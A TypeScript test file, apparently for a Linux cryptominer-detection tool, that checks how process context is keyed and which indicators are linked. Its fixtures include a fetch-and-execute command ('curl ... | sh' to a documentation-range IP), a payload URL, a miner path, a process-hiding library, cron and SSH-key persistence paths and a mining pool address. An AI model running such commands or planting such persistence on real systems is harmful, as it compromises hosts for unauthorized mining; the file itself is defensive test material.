import assert from 'node:assert/strict';
import { test } from 'node:test';
import { linkKeyOf } from '#shared/context/link-key.ts';
import { linkableBy } from '#shared/context/linkable.ts';
import type { Process } from '#shared/model/event.ts';
import type { Artifact, LinkKey } from '#shared/model/place.ts';

const session = { session: '7', auid: '1000' };
const TABLE: readonly (readonly [string, Process | undefined, LinkKey])[] = [
  ['nothing is known', undefined, '-'],
  ['a daemon without session or unit', { executable: '/usr/sbin/nginx' }, '-'],
  ['a login session', { executable: '/usr/bin/vim', ...session }, 'ses:7'],
  ['a session without a login uid is no login', { session: '7' }, '-'],
  ['a named unit', { unit: 'miner.service' }, 'unit:miner.service'],
  ['a session beats a unit', { unit: 'miner.service', ...session }, 'ses:7'],
  ['a session scope names no unit', { unit: 'session-7.scope' }, '-'],
  ["a user's manager names no unit", { unit: 'user@1000.service' }, '-'],
  ['init names no unit', { unit: 'init.scope' }, '-'],
  ['a container names no unit', { unit: 'docker-0123456789ab.scope' }, '-'],
  ['a pod slice names no unit', { unit: 'kubepods-burstable.slice' }, '-'],
  ['a package manager beats a session', { executable: '/usr/bin/dpkg', ...session }, 'pkg'],
  ['a child of a package manager', { executable: '/usr/bin/sh', parentName: 'apt-get', ...session }, 'pkg'],
  ['a grandchild of a package manager', { ancestors: ['sh', 'dnf'] }, 'pkg'],
  [
    'the order to remove a package',
    { executable: '/usr/bin/apt-get', argv: ['apt-get', 'purge', '-y', 'a'], ...session },
    'ses:7',
  ],
  ['the order to erase', { executable: '/usr/bin/rpm', argv: ['rpm', '-e', 'a'], ...session }, 'ses:7'],
  ['an upgrade', { executable: '/usr/bin/apt-get', argv: ['apt-get', 'upgrade', '-y'], ...session }, 'pkg'],
  ['an installation', { executable: '/usr/bin/rpm', argv: ['rpm', '-i', 'a.rpm'], ...session }, 'pkg'],
  [
    'a removal that another package manager orders',
    { executable: '/usr/bin/dpkg', argv: ['dpkg', '-P', 'a'], parentName: 'apt-get', ...session },
    'pkg',
  ],
  [
    'the script of a package that is removed',
    { executable: '/usr/bin/sh', argv: ['sh', 'a.prerm', 'remove'], parentName: 'dpkg', ...session },
    'pkg',
  ],
  ['a configuration manager', { executable: '/opt/puppetlabs/puppet/bin/puppet' }, 'pkg'],
  ['a file that merely calls itself one', { executable: '/tmp/apt-get', ...session }, 'ses:7'],
  ['a program in /tmp whose parent calls itself one', { executable: '/tmp/x', parentName: 'dpkg' }, '-'],
  [
    'a parent whose path is elsewhere',
    { executable: '/bin/sh', parentName: 'dpkg', parentExecutable: '/tmp/dpkg' },
    '-',
  ],
];

for (const [name, process, key] of TABLE) {
  test(`${name}: ${key}`, () => assert.equal(linkKeyOf(process), key));
}

const linkable = linkableBy({
  name: (dns) =>
    dns === 'pool.example.org'
      ? { entry: { name: dns, kind: 'pool', operator: 'x', source: 'x', date: '2026-01-01' }, name: dns, site: false }
      : undefined,
  address: () => undefined,
});

const LINKS: readonly (readonly [Artifact, boolean])[] = [
  ['path:/tmp/.x/xmrig', true],
  ['path:/opt/app/run', true],
  ['path:/usr/local/lib/libprocesshider.so', true],
  ['path:/tmp/bash', false],
  ['path:/usr/bin/perl', false],
  ['path:/etc/crontab', false],
  ['path:/root/.ssh/authorized_keys', false],
  ['path:/var/spool/cron/root', false],
  ['path:/dev/shm/x', true],
  ['path:/dev/cpu/0/msr', false],
  ['wallet:48ed', true],
  ['cmd:curl http://198.51.100.9/x | sh', true],
  ['pool:pool.example.org:3333', false],
  ['pool:203.0.113.9:3333', true],
  ['url:http://198.51.100.9/x.sh', true],
  ['url:https://github.com/xmrig/xmrig', false],
  ['url:not a url', false],
  ['algo:rx/0', false],
  ['miner:xmrig', false],
];

for (const [artifact, expected] of LINKS) {
  test(`${artifact} ${expected ? 'links' : 'never links'}`, () => assert.equal(linkable(artifact), expected));
}
